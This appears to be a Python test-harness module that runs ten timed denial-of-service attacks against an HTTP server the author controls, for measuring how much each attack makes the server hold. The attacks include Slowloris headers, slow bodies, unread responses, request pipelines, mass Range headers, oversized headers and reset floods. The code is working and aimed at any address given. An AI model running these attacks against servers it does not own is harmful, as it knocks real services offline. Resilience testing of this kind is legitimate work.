"""Greedy clients, on purpose: what each does to a server, a step at a time. Only against servers of one's own.

Facts. A client is greedy that makes the server keep or do more than it does itself: half a head for ever, an answer
that is never read, a head that asks for ten thousand parts. Each costs the attacker a socket, or a packet now and then.
Decision. An attack is a generator, and each ``next`` one STEP's share of what it does in SECONDS. So the pace is the
same whatever the server does, and an attack that is all work does not turn into a race of two processors. `run` drives
one in a process of its own, lest the honest clients wait for it.
Price. The pace is a choice. A faster attacker is a flood, which no server can answer alone.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import time
from collections import deque
from collections.abc import Callable, Generator, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

STEP = 0.002
"""Seconds from one step to the next."""

SECONDS = 4.0
"""Within which an attack has done all that it is named for, if that is not what it begins with."""

STEPS = round(SECONDS / STEP)

ARRIVAL = STEPS // 2
"""Steps within which connections that are to stay have come."""

PACE = STEPS // 8
"""Steps from one byte of a dribble to the next: half a second."""

TURNS = 10
"""Steps from one piece of a pipeline to the next, if the server takes any more."""

SMALL_BUFFER = 2304
"""SO_RCVBUF of who does not read; the kernel's least value (socket(7))."""

RESET_ON_CLOSE = struct.pack("ii", 1, 0)

PIECE = b"x" * 65536

KIB = 1024

FEW = 25
"""Connections at a time of attacks that are about what is asked for."""

UNREAD = 16 * KIB
"""Bytes that the kernel may keep for a connection on which both sides take what comes."""

FULL = 384 * KIB
"""The same where both stop: what it takes to send and to be read, in packets as small as a window of SMALL_BUFFER."""

LONG = (1 << 20) // len(PIECE)
"""Pieces of a head of 1 MiB."""

Address = tuple[str, int]

Steps = Generator[Any, None, None]


@dataclass(frozen=True)
class Attack:
    """*name* for the command line, *words* for people; the server may keep *allowance* bytes for each of *count*."""

    name: str
    words: str
    count: int
    allowance: int
    steps: Callable[[Address, int], Steps]
    unread: int = UNREAD

    @property
    def connections(self) -> int:
        """How many are open at a time; for each of them, the kernel may keep *unread* bytes."""
        return self.count if self.allowance else FEW


def run(attack: Attack, address: Address, parent: Connection) -> None:
    """Attack until *parent* closes; says so after the first step, and at the end how many it took."""
    # What is measured is the server, not who comes first on a processor that both kinds of clients share.
    yield_to_others(os.getpid())
    steps = attack.steps(address, attack.count)
    with suppress(EOFError, ConnectionError):
        next(steps)  # on a busy machine, who comes last may not come to it in all the time that is measured
        begin, done = time.monotonic(), 1
        parent.send("begun")
        while not parent.poll(max(0.0, begin + done * STEP - time.monotonic())):
            next(steps)
            done += 1
        parent.recv()
        parent.send(done / ((time.monotonic() - begin) / STEP))


def yield_to_others(pid: int, *, session: bool = False) -> None:
    """Have the threads of the process *pid* run when nothing else wants their processor (SCHED_IDLE, sched(7)).

    The kernel may share a processor among sessions first: if *pid* has a *session* of its own, that yields as well.
    """
    for thread in os.listdir(f"/proc/{pid}/task"):
        os.sched_setscheduler(int(thread), os.SCHED_IDLE, os.sched_param(0))
    if session:
        with suppress(OSError):
            Path(f"/proc/{pid}/autogroup").write_text("19")


def request(path: str, *fields: str, method: str = "GET") -> bytes:
    """A request without a body."""
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", *fields, "", ""]).encode()


def connect(address: Address, *, reads: bool = True) -> socket.socket:
    """A non-blocking connection, which is closed by a reset, so that no port stays taken."""
    peer = socket.socket()
    if not reads:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_ON_CLOSE)
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    peer.connect(address)
    peer.setblocking(False)
    return peer


def send(peer: socket.socket, data: bytes) -> int:
    """Send what fits of *data*; 0 too if the server has closed."""
    with suppress(OSError):
        return peer.send(data)
    return 0


def some(count: int, most: int) -> int:
    """How many of *count* come in a step, but no more than *most*."""
    return min(max(count // ARRIVAL, 1), most)


# The attacks


def arriving(
    address: Address, count: int, opening: bytes = b"", *, reads: bool = True
) -> Generator[list[socket.socket], None, None]:
    """Connections that send *opening*, as they come; then no more, and all of them stay."""
    with ExitStack() as stack:
        peers: list[socket.socket] = []
        while True:
            for _ in range(some(count, count - len(peers))):
                peers.append(stack.enter_context(connect(address, reads=reads)))
                send(peers[-1], opening)
            yield peers


def dribble(address: Address, count: int, opening: bytes) -> Steps:
    """Connections that have begun something, and go on with a byte each half second."""
    for peers, turn in zip(arriving(address, count, opening), itertools.cycle(range(PACE)), strict=False):
        for peer in peers[turn::PACE]:
            send(peer, b"x")
        yield


def dribbled_heads(address: Address, count: int) -> Steps:
    """Slowloris."""
    return dribble(address, count, b"GET /page.html HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")


def dribbled_bodies(address: Address, count: int) -> Steps:
    """The same with a body."""
    return dribble(address, count, request("/page.html", "Content-Length: 1000000", method="POST"))


def never_read_files(address: Address, count: int) -> Steps:
    """Connections that ask for a file on the disk and take nothing of it."""
    return arriving(address, count, request("/large.bin"), reads=False)


def never_read_answers(address: Address, count: int) -> Steps:
    """The same with an answer from the server's memory."""
    return arriving(address, count, request("/picture.bin"), reads=False)


def idle(address: Address, count: int) -> Steps:
    """Connections on which nothing comes."""
    return arriving(address, count)


def resets(address: Address, count: int) -> Steps:
    """Connections that are reset at once, every other one with half a request on it."""
    while True:
        for number in range(max(count // STEPS, 1)):
            peer = connect(address)
            if number % 2:
                send(peer, b"GET / HTTP/1.1\r\n")
            peer.close()
        yield


def pipelines(address: Address, count: int) -> Steps:
    """Connections that send 10,000 requests, as fast as the server takes them, and read no answer."""
    data = request("/page.html") * 10_000
    sent: dict[socket.socket, int] = {}
    for peers, turn in zip(arriving(address, count, reads=False), itertools.cycle(range(TURNS)), strict=False):
        for peer in peers[turn::TURNS]:
            begin = sent.get(peer, 0)
            sent[peer] = begin + send(peer, data[begin : begin + len(PIECE)])
        yield


def ranges(address: Address, count: int) -> Steps:
    """Requests for 10,000 parts, in a head that is just short enough."""
    asked = request("/page.html", "Range: bytes=" + ",".join(["0-"] * 10_000))
    return asking(address, itertools.repeat(asked), count)


def missing(address: Address, count: int) -> Steps:
    """Requests for paths that are not there, each another one, and none that the kernel has been asked for before."""
    once = os.urandom(4).hex()
    return asking(address, (request(f"/{once}-{number}") for number in itertools.count()), count)


def asking(address: Address, requests: Iterator[bytes], count: int, connections: int = FEW) -> Steps:
    """Requests, on a few connections in turn; what comes back is dropped."""
    with ExitStack() as stack:
        peers = deque(stack.enter_context(connect(address)) for _ in range(connections))
        due = 0.0
        while True:
            due += count / STEPS
            for data in itertools.islice(requests, int(due)):
                peers.rotate()
                with suppress(BlockingIOError, ConnectionError):
                    while peers[0].recv(1 << 20):
                        pass
                send(peers[0], data)
            due %= 1
            yield


def long_heads(address: Address, count: int) -> Steps:
    """Heads of 1 MiB, each on a connection of its own, a piece in each step."""
    begun: deque[socket.socket] = deque()
    due = 0.0
    try:
        while True:
            due += count / STEPS
            for _ in range(int(due)):
                begun.append(connect(address))
                send(begun[-1], b"GET / HTTP/1.1\r\nX: ")
            due %= 1
            for peer in begun:
                send(peer, PIECE)
            while len(begun) > LONG * count / STEPS:
                begun.popleft().close()
            yield
    finally:
        for peer in begun:
            peer.close()


# Of an answer that nobody reads, the stock loop copies what the kernel does not take, before Python 3.12.
ATTACKS = (
    Attack("heads", "dribbled heads", 2_000, 16 * KIB, dribbled_heads),
    Attack("bodies", "dribbled bodies", 2_000, 16 * KIB, dribbled_bodies),
    Attack("files", "files never read", 2_000, 16 * KIB, never_read_files, FULL),
    Attack("answers", "answers never read", 2_000, 96 * KIB, never_read_answers, FULL),
    Attack("idle", "idle connections", 5_000, 8 * KIB, idle),
    Attack("resets", "connects and resets", 10_000, 0, resets),
    Attack("pipelines", "pipelines of 10,000 never read", 100, 512 * KIB, pipelines, FULL),
    Attack("ranges", "requests for 10,000 ranges", 400, 0, ranges),
    Attack("long-heads", "heads of 1 MiB", 400, 0, long_heads, FULL),
    Attack("missing", "different missing paths", 10_000, 0, missing),
)
